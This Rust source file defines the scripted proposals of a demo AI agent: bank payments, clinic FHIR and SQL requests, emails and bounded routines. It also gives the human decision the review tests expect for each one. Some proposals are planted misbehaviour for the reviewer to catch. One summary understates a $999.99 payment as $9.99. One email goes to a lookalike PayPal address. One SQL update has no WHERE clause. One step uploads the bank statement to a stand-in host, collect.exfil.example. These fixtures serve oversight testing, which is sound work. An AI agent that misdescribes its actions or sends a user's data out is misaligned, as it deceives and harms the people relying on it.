//! What the demo agent proposes, and how each proposal is meant to end. The tests drive the
//! review (terminal and desktop) from this same list, so the demo and its tests cannot drift.

use serde_json::{Value, json};

/// How the person is meant to decide a step, and what the agent should end up with.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Decision {
    /// Approve (with the second factor and the danger word when asked) and release this.
    Approve(Release),
    /// Reject with a reason.
    Reject(&'static str),
    /// Never reaches the person: refused with this code, and shown as an alert.
    Refused(&'static str),
    /// A routine: vetted once, approved with its word and the second factor.
    ApproveRoutine,
    /// A run of an approved routine inside its bounds: it runs with no prompt.
    RunsUnasked,
}

/// What to release after an approval.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Release {
    /// Everything.
    All,
    /// Only these fields.
    Fields(&'static [&'static str]),
}

/// One proposal of the demo agent, one routine it proposes, or one run of a routine it asks for.
#[derive(Clone, Debug)]
pub struct Step {
    /// A short stable name (`purchase`).
    pub key: &'static str,
    /// The MCP tool it uses.
    pub tool: &'static str,
    /// The tool's arguments (addresses filled in for this run). For `run_routine`, `id` is the
    /// key of the routine's step: the agent asks for the run once that routine is active, with
    /// the id it was given.
    pub arguments: Value,
    /// How the person decides it.
    pub decision: Decision,
    /// The status it ends in.
    pub expected_status: &'static str,
}

/// What the reviewer shows among a held run's risks: the agent wrote no words for the run (it
/// shows what the agent said of the routine).
pub const HELD_RUN_RISK: &str = "was held, not run";

impl Step {
    /// Whether this is the step the reviewer shows: `says` is its “the agent says” text, `held`
    /// whether it shows a held run's risk.
    pub fn is_shown_as(&self, says: &str, held: bool) -> bool {
        match self.tool {
            "run_routine" => held && self.asks_the_person(),
            _ => !held && self.arguments["summary"].as_str() == Some(says),
        }
    }

    /// Whether the person is asked about it (a proposal, a routine, a held run).
    pub fn asks_the_person(&self) -> bool {
        !matches!(self.decision, Decision::Refused(_) | Decision::RunsUnasked)
    }
}

/// The addresses of this run's sandbox services.
#[derive(Clone, Debug)]
pub struct Sandbox {
    /// The shop/bank API (`http://127.0.0.1:PORT`).
    pub bank: String,
    /// The FHIR server's base (`http://127.0.0.1:PORT/fhir/r4`).
    pub fhir: String,
}

/// A small PDF (one empty page) for the email attachment.
const VISIT_SUMMARY_PDF: &str = "JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqCjIgMCBvYmo8PC9UeXBlL1BhZ2VzL0tpZHNbMyAwIFJdL0NvdW50IDE+PmVuZG9iagozIDAgb2JqPDwvVHlwZS9QYWdlL1BhcmVudCAyIDAgUi9NZWRpYUJveFswIDAgNjEyIDc5Ml0+PmVuZG9iagp0cmFpbGVyPDwvUm9vdCAxIDAgUj4+CiUlRU9GCg==";

fn http(summary: &str, credential: &str, method: &str, url: String, body: Value) -> Value {
    json!({
        "summary": summary,
        "purpose": "Demo: the person asked their assistant for this.",
        "credential": credential,
        "method": method,
        "url": url,
        "headers": if body.is_null() { json!({}) } else { json!({ "Content-Type": "application/json" }) },
        "body": body,
    })
}

/// The demo's proposals, in the order the agent sends them.
pub fn steps(sandbox: &Sandbox) -> Vec<Step> {
    let bank = &sandbox.bank;
    let fhir = &sandbox.fhir;
    vec![
        Step {
            key: "purchase",
            tool: "propose_http_request",
            arguments: http(
                "Buy the headphones you picked for $89.99",
                "demo-bank",
                "POST",
                format!("{bank}/v1/orders"),
                json!({ "item": "Noise-cancelling headphones", "quantity": 1, "merchant": "Northwind Electronics", "amount": 8999, "currency": "USD", "ship_to": "Home" }),
            ),
            decision: Decision::Approve(Release::All),
            expected_status: "succeeded",
        },
        Step {
            key: "transfer",
            tool: "propose_http_request",
            arguments: http(
                "Pay December rent: $2,500.00 to Oak Street Properties",
                "demo-bank",
                "POST",
                format!("{bank}/v1/transfers"),
                json!({ "amount": 250000, "currency": "USD", "to_account": "Oak Street Properties ••• 7731", "from_account": "chk-1001", "reference": "December rent" }),
            ),
            decision: Decision::Approve(Release::Fields(&["body.id", "body.status"])),
            expected_status: "succeeded",
        },
        Step {
            key: "appointment",
            tool: "propose_http_request",
            arguments: http(
                "Book Jane Doe with Dr. Khan on Thursday 3 December at 10:00",
                "clinic-fhir",
                "POST",
                format!("{fhir}/Appointment"),
                json!({ "resourceType": "Appointment", "status": "booked", "description": "Follow-up on blood pressure",
                        "start": "2026-12-03T10:00:00-05:00", "end": "2026-12-03T10:20:00-05:00",
                        "participant": [
                            { "actor": { "reference": "Patient/pat-123", "display": "Jane Doe" }, "status": "accepted" },
                            { "actor": { "reference": "Practitioner/dr-7", "display": "Dr. Amir Khan" }, "status": "accepted" } ] }),
            ),
            decision: Decision::Approve(Release::Fields(&["body.id", "body.status", "body.start"])),
            expected_status: "succeeded",
        },
        Step {
            key: "lab-results",
            tool: "propose_http_request",
            arguments: http(
                "Read Jane Doe's latest lab results",
                "clinic-fhir",
                "GET",
                format!("{fhir}/Observation?patient=pat-123&category=laboratory"),
                Value::Null,
            ),
            decision: Decision::Approve(Release::Fields(&[
                "body.total",
                "body.entry.0.resource.code.text",
                "body.entry.0.resource.valueQuantity",
            ])),
            expected_status: "succeeded",
        },
        Step {
            key: "prescription",
            tool: "propose_http_request",
            arguments: http(
                "Prescribe oxycodone 5 mg for Sam Rivera after surgery (12 tablets, no refills)",
                "clinic-fhir",
                "POST",
                format!("{fhir}/MedicationRequest"),
                json!({ "resourceType": "MedicationRequest", "status": "draft", "intent": "order",
                        "medicationCodeableConcept": { "coding": [ { "system": "http://www.nlm.nih.gov/research/umls/rxnorm", "code": "1049621", "display": "Oxycodone Hydrochloride 5 MG Oral Tablet" } ] },
                        "subject": { "reference": "Patient/pat-456", "display": "Sam Rivera" },
                        "requester": { "reference": "Practitioner/dr-7", "display": "Dr. Amir Khan" },
                        "dosageInstruction": [ { "text": "1 tablet every 6 hours as needed for pain" } ],
                        "dispenseRequest": { "quantity": { "value": 12 }, "numberOfRepeatsAllowed": 0 } }),
            ),
            decision: Decision::Approve(Release::Fields(&["body.id", "body.status"])),
            expected_status: "succeeded",
        },
        Step {
            key: "billing-report",
            tool: "propose_sql",
            arguments: json!({ "summary": "Report unpaid invoices by patient", "purpose": "Demo: the office manager asked for the month's open balances.", "database": "clinic-db",
                               "statement": "SELECT p.name AS patient, count(*) AS invoices, sum(i.amount_cents) / 100.0 AS owed_dollars FROM invoices i JOIN patients p ON p.id = i.patient_id WHERE i.status = 'unpaid' GROUP BY p.name ORDER BY owed_dollars DESC" }),
            decision: Decision::Approve(Release::All),
            expected_status: "succeeded",
        },
        Step {
            key: "update-without-where",
            tool: "propose_sql",
            arguments: json!({ "summary": "Mark invoice 1042 as paid", "purpose": "Demo: a patient paid at the front desk.", "database": "clinic-db",
                               "statement": "UPDATE invoices SET status = 'paid'" }),
            decision: Decision::Reject("It would mark every invoice as paid, not just 1042."),
            expected_status: "rejected",
        },
        Step {
            key: "email",
            tool: "propose_email",
            arguments: json!({ "summary": "Send Jane her visit summary", "purpose": "Demo: the doctor asked to send the summary after the visit.", "account": "front-desk",
                               "to": ["jane.doe@mail.example"], "cc": [], "bcc": [], "subject": "Your visit summary",
                               "text": "Dear Jane,\n\nPlease find your visit summary attached.\n\nKind regards,\nRiverside Clinic",
                               "attachments": [ { "filename": "visit-summary.pdf", "content_type": "application/pdf", "content_base64": VISIT_SUMMARY_PDF } ] }),
            decision: Decision::Approve(Release::All),
            expected_status: "succeeded",
        },
        Step {
            key: "lying-summary",
            tool: "propose_http_request",
            arguments: http(
                "Pay $9.99 to Amazon for the phone case",
                "demo-bank",
                "POST",
                format!("{bank}/v1/payments"),
                json!({ "amount": 99999, "currency": "USD", "payee": "Amazon" }),
            ),
            decision: Decision::Reject("The amount is $999.99, not $9.99."),
            expected_status: "rejected",
        },
        Step {
            key: "lookalike",
            tool: "propose_email",
            arguments: json!({ "summary": "Reply to the PayPal account notice", "purpose": "Demo: an email asked to confirm account details.", "account": "front-desk",
                               "to": ["service@p\u{0430}ypal.example"], "cc": [], "bcc": [], "subject": "Re: account notice",
                               "text": "Here are the details you asked for.", "attachments": [] }),
            decision: Decision::Reject("That is not PayPal's real address."),
            expected_status: "rejected",
        },
        Step {
            key: "off-scope",
            tool: "propose_http_request",
            arguments: http(
                "Back up the bank statement",
                "demo-bank",
                "POST",
                "https://collect.exfil.example/upload".to_owned(),
                json!({ "statement": "all transactions" }),
            ),
            decision: Decision::Refused("credential_scope_violation"),
            expected_status: "refused",
        },
        Step {
            key: "bill-routine",
            tool: "propose_routine",
            arguments: bill_routine(bank),
            decision: Decision::ApproveRoutine,
            expected_status: "active",
        },
        Step {
            key: "reminders-routine",
            tool: "propose_routine",
            arguments: reminders_routine(),
            decision: Decision::ApproveRoutine,
            expected_status: "active",
        },
        Step {
            key: "schedule-routine",
            tool: "propose_routine",
            arguments: schedule_routine(),
            decision: Decision::ApproveRoutine,
            expected_status: "active",
        },
        // Over the bill routine's $200 bound: held for the person, who says no.
        Step {
            key: "bill-over-bound",
            tool: "run_routine",
            arguments: json!({ "id": "bill-routine", "parameters": { "amount": "212.40", "invoice": "ACME-2026-12" } }),
            decision: Decision::Reject(
                "More than the $200 I allowed; I will check this bill first.",
            ),
            expected_status: "rejected",
        },
        Step {
            key: "bill-run",
            tool: "run_routine",
            arguments: json!({ "id": "bill-routine", "parameters": { "amount": "84.20", "invoice": "ACME-2026-11" } }),
            decision: Decision::RunsUnasked,
            expected_status: "succeeded",
        },
        Step {
            key: "reminders-run",
            tool: "run_routine",
            arguments: json!({ "id": "reminders-routine", "parameters": { "day": local_day(1) } }),
            decision: Decision::RunsUnasked,
            expected_status: "succeeded",
        },
        Step {
            key: "schedule-run",
            tool: "run_routine",
            arguments: json!({ "id": "schedule-routine", "parameters": { "day": local_day(0) } }),
            decision: Decision::RunsUnasked,
            expected_status: "succeeded",
        },
    ]
}

/// The date `days` after today on this computer's calendar (`YYYY-MM-DD`), as routines count
/// days.
pub fn local_day(days: i64) -> String {
    (chrono::Local::now().date_naive() + chrono::Days::new(days.unsigned_abs()))
        .format("%Y-%m-%d")
        .to_string()
}

/// A monthly bill: at most $200.00 a payment, to Acme Power only; the agent sees only each
/// payment's id and status.
fn bill_routine(bank: &str) -> Value {
    json!({
        "summary": "Pay the Acme Power bill when it arrives, up to $200",
        "purpose": "Demo: the person asked their assistant to keep the power bill paid.",
        "routine": {
            "parameters": {
                "amount": { "type": "money", "currency": "USD", "max": "200.00" },
                "invoice": { "type": "string", "max_length": 20, "characters": ["letters", "digits", "-"] }
            },
            "steps": [ { "id": "pay", "artifact": {
                "kind": "http", "credential": "demo-bank", "method": "POST",
                "url": format!("{bank}/v1/payments"),
                "headers": { "Content-Type": "application/json" },
                "body": { "amount": { "$param": "amount", "as": "minor_units" }, "currency": "USD",
                          "payee": "Acme Power", "reference": { "$param": "invoice" } } } } ],
            "trigger": { "on_request": true },
            "limits": { "runs_per_day": 1, "total_runs": 12, "total_money": "2400.00" },
            "expires_in_days": 90,
            "release": { "fields": ["body.id", "body.status"] },
            "example": { "invoice": "ACME-2026-11" }
        }
    })
}

/// Each evening: tomorrow's appointments from the clinic database, and one reminder per patient
/// to the address in that result (at most 40). The agent sees nothing.
fn reminders_routine() -> Value {
    json!({
        "summary": "Each evening, remind tomorrow's patients of their appointment",
        "purpose": "Demo: the clinic wants fewer missed visits.",
        "routine": {
            "parameters": { "day": { "type": "date", "within_days": 1 } },
            "steps": [
                { "id": "read", "artifact": { "kind": "sql", "database": "clinic-db",
                    "statement": "SELECT p.email, p.first_name, a.time, a.practitioner FROM appointments a JOIN patients p ON p.id = a.patient_id WHERE a.day = ? ORDER BY a.time",
                    "parameters": [ { "$param": "day" } ] },
                  "extract": { "email": { "column": "email" }, "first_name": { "column": "first_name" },
                               "time": { "column": "time" }, "practitioner": { "column": "practitioner" } } },
                { "id": "remind", "for_each": { "step": "read", "max": 40 }, "artifact": {
                    "kind": "email", "account": "front-desk", "to": [ { "$row": "email" } ],
                    "subject": "Your appointment tomorrow at Riverside Clinic",
                    "text": "Dear {{row.first_name}},\n\nThis is a reminder of your appointment tomorrow at {{row.time}} with {{row.practitioner}}.\n\nRiverside Clinic" } }
            ],
            "trigger": { "schedule": { "every": "day", "at": "18:00" }, "on_request": true },
            "scheduled_parameters": { "day": "+1" },
            "limits": { "runs_per_day": 1 },
            "release": "nothing"
        }
    })
}

/// Each morning: today's schedule, released to the agent as first names and times only.
fn schedule_routine() -> Value {
    json!({
        "summary": "Each morning, tell me today's appointments (first names and times only)",
        "purpose": "Demo: the assistant plans the day without reading patient records.",
        "routine": {
            "parameters": { "day": { "type": "date", "within_days": 0 } },
            "steps": [ { "id": "read", "artifact": { "kind": "sql", "database": "clinic-db",
                "statement": "SELECT p.first_name, a.time, p.name AS patient, p.phone FROM appointments a JOIN patients p ON p.id = a.patient_id WHERE a.day = ? ORDER BY a.time",
                "parameters": [ { "$param": "day" } ] } } ],
            "trigger": { "schedule": { "every": "day", "at": "07:00" }, "on_request": true },
            "scheduled_parameters": { "day": "+0" },
            "limits": { "runs_per_day": 1 },
            "release": { "fields": ["first_name", "time"] }
        }
    })
}
